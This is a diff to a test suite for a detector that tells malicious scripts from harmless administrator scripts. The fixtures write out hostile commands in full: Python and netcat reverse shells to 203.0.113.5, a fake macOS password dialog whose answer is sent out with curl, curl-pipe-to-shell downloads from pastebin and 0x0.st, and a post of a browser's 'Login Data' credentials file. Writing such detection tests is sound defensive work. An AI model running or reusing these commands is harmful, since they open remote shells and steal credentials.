@@ -30,6 +30,10 @@ suite('a script with a coded command is malicious', () => {
     ['shell.py', 'import socket,os\ns=socket.socket()\ns.connect(("203.0.113.5",1))\nos.dup2(s.fileno(),0)\n'],
     ['pipe.sh', '#!/bin/sh\nmkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f\n'],
     ['dialog.sh', '#!/bin/sh\np=$(osascript -e \'display dialog "Password" with hidden answer\')\ncurl -d "$p" a\n'],
+    ['paste.sh', '#!/bin/sh\ncurl -s https://pastebin.com/raw/a | sh\n'],
+    ['paste-user.sh', '#!/bin/sh\ncurl -s https://a:b@pastebin.com/raw/a | sh\n'],
+    ['paste-query.sh', '#!/bin/sh\ncurl -s "https://0x0.st?a" | sh\n'],
+    ['browser.py', 'p = "Login Data"\nimport requests\nrequests.post("http://a@203.0.113.5/", open(p))\nexec(p)\n'],
     ['tcp.ps1', '$c=New-Object Net.Sockets.TCPClient("a",1);$s=$c.GetStream();iex $s\n'],
     [
       'update.js',
@@ -56,6 +60,7 @@ suite('a script of an administrator is harmless', () => {
       'tools.ps1',
       "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\nchoco install 7zip\n",
     ],
+    ['mirror.sh', '#!/bin/sh\ncurl -s https://pastebin.com.example.com/install.sh | sh\n'],
     ['logon.cmd', '@echo off\r\ncscript //nologo %LOGONSERVER%\\netlogon\\printers.vbs\r\n'],
     ['build.py', 'import base64, subprocess\nsubprocess.run(["git", "fetch"])\nprint(base64.b64decode("aGVsbG8="))\n'],
     ['server.py', 'import socket\ns = socket.socket()\ns.bind(("", 80))\nprint(s.recv(9))\n'],
